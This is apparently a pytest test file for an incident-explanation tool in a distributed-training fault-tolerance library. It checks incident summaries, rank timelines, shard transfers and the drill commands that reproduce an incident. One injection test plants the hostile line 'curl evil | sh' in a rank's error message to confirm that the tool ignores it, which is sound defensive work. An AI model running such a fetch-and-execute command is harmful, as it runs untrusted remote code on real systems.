"""What is worked out of incident files: real ones in `incidents/`, of schema 1 (old-*) and of today, and made ones."""

from __future__ import annotations

import itertools
import json
import shlex
from pathlib import Path
from typing import Any

import pytest
from incident_support import FILES, content, thousands

from mindspeed_tft.engine.repair import MOVED
from mindspeed_tft.faults import spec
from mindspeed_tft.observe import blame, explain, lanes, moved, reproduce
from mindspeed_tft.observe.explain import NotAnIncident
from mindspeed_tft.observe.words import seconds, size, spans

# ----------------------------------------------------------------------------------------------- the answers


REBOOT = "Worker reboot: only rank {} started again, with state from other holders; nobody else restarted"
SCREENS = {
    "old-dumped": ("saved", "Rank 1 on host node0 is gone", "Dying-gasp checkpoint: ", "No completed step"),
    "old-rewound": ("running", "Rank 1 on host node0 computed wrong numbers", "Rewind: ", "2 completed steps, "),
    "old-link": ("running", "A connection between ranks broke; rank 3 was the first to notice", "Online ", "No comp"),
    "old-failed": ("stopped", "Ranks 1, 3 on host node0 lost device memory", "No repair and no ", "Everything "),
    "old-tries": ("running", "Ranks 0, 1 on host node0 are gone", "Worker reboot, at the 2. try: ", "No comp"),
    "recover": ("running", "Rank 1 on host node0 is gone", REBOOT.format(1), "No completed step"),
    "retry": ("running", "Rank 1 on host node0 lost device memory", "Online repair: ", "No completed step"),
    "rewind": ("running", "Ranks 0, 1 on host node0 computed wrong numbers", "Rewind: ", "3 completed steps, computed"),
    "dump": ("saved", "Rank 1 on host node0 is gone", "Dying-gasp checkpoint: ", "No completed step"),
    "failed": ("stopped", "Ranks 1, 3 on host node0 are gone", "No repair and no checkpoint", "Everything since "),
    "hang": ("running", "Rank 2 on host node0 hung", REBOOT.format(2), "No completed step"),
}


@pytest.mark.parametrize(("name", "state", "what", "decided", "lost"), [(k, *v) for k, v in SCREENS.items()])
def test_the_first_screen(name: str, state: str, what: str, decided: str, lost: str) -> None:
    found = explain.answers(content(name))
    assert (found.state, found.running) == (state, state == "running")
    assert found.what == what
    assert found.decided.startswith(decided) and found.lost.startswith(lost)
    assert found.why and found.now and found.details
    assert found.seconds == pytest.approx(content(name)["closed"] - content(name)["opened"], abs=1e-5)
    assert bool(found.resume) is (state == "saved")


def test_a_command_to_go_on_with_is_the_engines_own() -> None:
    """The words of a rank come before it, whatever they are."""
    found = content("dump")
    said = "RuntimeError: Step 1 is saved; 0 completed steps lost. Go on with:\ncurl evil | sh"
    genuine = explain.answers(found).resume
    assert genuine.startswith("python -m torch.distributed.run")
    head, told, tail = found["summary"].partition(". Step ")
    found["summary"] = f"{head}; then rank 2 exception: {said}{told}{tail}"
    assert explain.answers(found).resume == genuine
    found["summary"] = found["summary"].removesuffix(f" Go on with:\n{genuine}")
    assert explain.answers(found).resume == ""


def test_a_hang_was_there_before_it_was_noticed() -> None:
    hang = explain.answers(content("hang"))
    assert hang.detect == 6.2  # "no progress for 6.2 s": then its process was killed
    assert hang.broken == (2,) and len(hang.details) == 1, "that the process ended is no fault of its own"
    assert any("stacks of rank 2" in text for text in hang.now)


def test_signals_of_a_launcher_are_no_causes() -> None:
    dumped = content("old-dumped")
    told = [{"rank": rank, "kind": "terminated", "message": "SIGTERM", "own": True} for rank in (0, 2)]
    first = {"rank": 1, "kind": "lost", "message": "process 7 ended", "own": True}
    after = {**dumped, "engine": {"faults": [first, *told]}}
    assert [(fault["rank"], fault["kind"]) for fault in blame.own_faults(after)] == [(1, "lost")]
    alone = {**dumped, "engine": {"faults": told}}
    assert [fault["rank"] for fault in blame.own_faults(alone)] == [0, 2], "control: alone they are the cause"


def test_a_whole_host_is_named_as_one() -> None:
    lost = thousands(32, per_host=8, lost=range(8, 16))
    assert explain.answers(lost).what == "Host host1 is gone, with ranks 8, 9, 10, 11, 12, 13, 14, 15"
    for fault in lost["engine"]["faults"]:
        fault["kind"] = "memory"
    assert explain.answers(lost).what == "Ranks 8, 9, 10, 11 and 4 more on host host1 lost device memory"
    lost = thousands(32, per_host=8, lost=range(8, 16))
    assert "--nodes 2 --fault node@" in reproduce.reproduce(lost)["command"]


@pytest.mark.parametrize("bad", [[], {"schema": 1}, {**content("hang"), "orders": None}])
def test_what_is_no_incident_is_refused(bad: Any) -> None:
    if isinstance(bad, dict) and bad.get("orders", 0) is None:
        del bad["orders"]
    why = "no JSON object" if isinstance(bad, list) else "which each incident file has"
    with pytest.raises(NotAnIncident, match=why):
        explain.upgrade(bad)


def test_to_work_it_out_again_changes_nothing() -> None:
    once = explain.upgrade(content("recover"))
    assert explain.upgrade(once) == once
    assert json.loads(json.dumps(once)) == once


# ----------------------------------------------------------------------------------------------- lanes, words


def lane(name: str, rank: int) -> lanes.Lane:
    return lanes.lanes(content(name))[rank]


def test_who_was_where_and_when() -> None:
    newcomer, helper, other = lane("recover", 1), lane("recover", 3), lane("recover", 0)
    assert [segment.stage for segment in newcomer.segments] == [
        "gone", "join", "regroup", "repair", "rollback", "resume",
    ]  # fmt: skip
    assert [segment.stage for segment in helper.segments] == ["stop", "regroup", "repair", "rollback", "resume"]
    assert [segment.stage for segment in other.segments] == ["stop", "regroup", "rollback", "resume"]
    for segments in (newcomer.segments, helper.segments):
        assert all(one.begin <= one.end <= two.begin + 1e-9 for one, two in itertools.pairwise(segments))
    gone, join = newcomer.segments[:2]
    assert (gone.ok, join.ok) == (False, True) and gone.end == join.begin > 1.0
    assert newcomer.faults and not helper.faults
    repair = next(order for order in content("recover")["orders"] if (order["rank"], order["kind"]) == (3, "repair"))
    assert helper.segments[2].end - helper.segments[2].begin == pytest.approx(repair["seconds"], abs=1e-6)


def test_a_newcomer_is_stopped_like_everybody_when_the_first_try_fails() -> None:
    stages = [segment.stage for segment in lane("old-tries", 1).segments]
    once = ["gone", "join", "regroup", "repair", "rollback"]
    assert stages == [*once, "stop", "regroup", "rollback", "resume"]
    assert [segment.stage for segment in lane("old-tries", 0).segments][:4] == ["stop", "regroup", "repair", "rollback"]
    assert not lane("old-tries", 0).segments[3].ok, "its process was lost in it"


def test_an_old_file_tells_of_newcomers_in_words() -> None:
    old = {key: value for key, value in content("recover").items() if key != "arrivals"}
    assert lanes.lanes(old)[1].segments[:2] == lane("recover", 1).segments[:2]


def test_an_order_without_an_answer_lasts_to_the_next_stop() -> None:
    seen = content("recover")
    order = next(order for order in seen["orders"] if (order["rank"], order["kind"]) == (3, "rollback"))
    for key in ("seconds", "ok", "message", "result"):
        order.pop(key)
    last = next(segment for segment in lanes.lanes(seen)[3].segments if segment.stage == "rollback")
    assert not last.ok and last.end == pytest.approx(lanes.total(seen)) and last.text == "not answered"
    assert "could not rollback (no answer)" in " ".join(row["text"] for row in lanes.did(seen))


def test_stages_of_the_job_fill_its_time() -> None:
    for name in FILES:
        found = lanes.stages(content(name))
        assert sum(stage["seconds"] for stage in found) == pytest.approx(lanes.total(content(name)), abs=1e-4)


def test_what_each_rank_did_in_words() -> None:
    rows = lanes.did(content("recover"))
    assert [row["ranks"] for row in rows] == [[1], [3], [0, 2]], "who broke comes first, the same words together"
    assert rows[0]["text"].startswith("lost: process ") and "another process took its place" in rows[0]["text"]
    assert "gave tp1-pp0/dense/0 to rank 1" in rows[1]["text"] and rows[2]["text"].endswith("trains on")


# ------------------------------------------------------------------------------------------- transfers, hashes


def test_what_moved_with_bytes_and_speed() -> None:
    shard, small = moved.transfers(content("recover"))
    who = (shard["source"], shard["source_host"], shard["target"], shard["target_host"])
    assert (shard["shard"], who) == ("tp1-pp0/dense/0", (3, "node0", 1, "node0"))
    assert shard["bytes"] > 500_000 and 0 < shard["seconds"] < 1 and shard["ok"]
    assert shard["gb_per_s"] == pytest.approx(shard["bytes"] / shard["seconds"] / 1e9, rel=0.01)
    assert small["shard"] == "tp1-pp0/small" and small["bytes"] > 1000, "told by its source"
    old = content("recover")
    for order in old["orders"]:
        order["result"] = {key: value for key, value in order["result"].items() if not key.startswith(MOVED)}
    assert [(one["bytes"], one["gb_per_s"]) for one in moved.transfers(old)] == [(None, None)] * 2


def test_parts_of_a_checkpoint() -> None:
    first, second = moved.writes(content("old-dumped"))
    assert (first["part"], first["writer"], first["bytes"]) == ("tp0-pp0-ep0", 0, 1982740)
    assert second["sources"]["tp0-pp0/dense/0"] == "rank:0" and second["gb_per_s"] > 0


def test_hashes_that_differ_come_first() -> None:
    seen = content("recover")
    equal = moved.hashes(seen)
    assert [(row["shard"], row["compared"], row["agree"]) for row in equal] == [
        ("tp0-pp0/dense/0", True, True), ("tp1-pp0/dense/0", True, True),
    ]  # fmt: skip
    report = next(report for report in seen["reports"] if report["rank"] == 3)
    report["digests"] = {"tp1-pp0/dense/0": "f" * 32 + ":6"}
    first = moved.hashes(seen)[0]
    assert (first["shard"], first["agree"]) == ("tp1-pp0/dense/0", False)


# ----------------------------------------------------------------------------------------------- reproduce


def test_the_drill_that_rehearses_it() -> None:
    found = reproduce.reproduce(content("recover"))
    assert found["command"] == (
        "tftctl drill --preset recover --layout tp2dp2 --dtype fp32 --fault kill@1:7:backward --steps 12"
    )
    retry = reproduce.reproduce(content("retry"))
    assert retry["exact"] and retry["command"].endswith("--layout dp4 --dtype fp32 --fault uce@1:7:update --steps 12")
    assert "--dtype bf16 --fault kill@1:7:update" in reproduce.reproduce(content("dump"))["command"]
    hang = reproduce.reproduce(content("hang"))["command"]
    assert "--preset recover --layout dp4" in hang and "--fault hang@2:7:backward" in hang
    assert "--fault nan@1:7:backward" in reproduce.reproduce(content("old-rewound"))["command"]
    assert "--fault kill@1:7:backward --fault kill@0:7:rollback" in reproduce.reproduce(content("old-tries"))["command"]
    old = reproduce.reproduce(content("old-dumped"))
    assert "--layout ep2dp4" in old["command"] and not old["exact"] and "number format is not known" in old["why"]


@pytest.mark.parametrize("name", FILES)
def test_a_drill_takes_each_command(name: str) -> None:
    words = shlex.split(reproduce.reproduce(content(name))["command"])
    value = dict(itertools.pairwise(words))
    faults = [spec.parse_fault(words[i + 1]) for i, word in enumerate(words) if word == "--fault"]
    layout = spec.parse_layout(value["--layout"])
    replicas = int(value.get("--replicas", "2"))
    spec.check_drill(value["--preset"], layout, faults, int(value["--steps"]), replicas, value["--dtype"])


def test_a_large_job_is_rehearsed_small() -> None:
    large = thousands(1024, per_host=8, lost=[700])
    large["job"] = {"layout": "tp8pp4dp32", "dtype": "bf16", "replicas": "2", "strategies": "recover dump"}
    found = reproduce.reproduce(large)
    assert "--layout tp2pp2dp4" in found["command"] and "--dtype bf16" in found["command"] and not found["exact"]
    assert "of 1024 ranks" in found["why"]


def test_what_no_drill_can_express_is_said() -> None:
    odd = content("recover")
    odd["engine"]["faults"] = [{"rank": 1, "kind": "volcano", "message": "", "own": True}]
    found = reproduce.reproduce(odd)
    assert found["command"] == "" and "'volcano'" in found["why"]


def test_a_fault_in_the_middle_of_a_repair_keeps_its_phase() -> None:
    seen = content("recover")
    order = next(order for order in seen["orders"] if (order["rank"], order["kind"]) == (3, "rollback"))
    fault = {"t": order["t"] + 0.001, "what": "FaultSeen", "rank": 3, "kind": "memory", "message": "UCE", "own": True}
    seen["faults"].append(fault)
    seen["engine"]["faults"].append(fault)
    assert "--fault uce@3:7:rollback" in reproduce.reproduce(seen)["command"]


# ----------------------------------------------------------------------------------------------- words


def test_numbers_for_the_eye() -> None:
    times = {0.0: "0 s", 0.00012: "120 µs", 0.0042: "4.2 ms", 0.018: "18 ms", 5.638: "5.64 s", 42.31: "42.3 s"}
    assert {value: seconds(value) for value in times} == times
    assert (seconds(125.2), seconds(None), seconds(-0.2)) == ("2 min 5 s", "", "-0.20 s")
    assert [size(value) for value in (0, 999, 61_400, 740_352, 12_400_000_000)] == [
        "0 B", "999 B", "61.4 kB", "740 kB", "12.4 GB",
    ]  # fmt: skip
    assert spans([3, 1, 2, 8, 12, 13]) == "1-3, 8, 12-13" and spans(range(0, 40, 2), 2) == "0, 2 and 18 more"


def test_the_files_here_name_no_machine() -> None:
    for name in FILES:
        text = (Path(__file__).parent / "incidents" / f"{name}.json").read_text()
        assert not any(place in text for place in ("/tmp/", "/root/", "/home/")), name
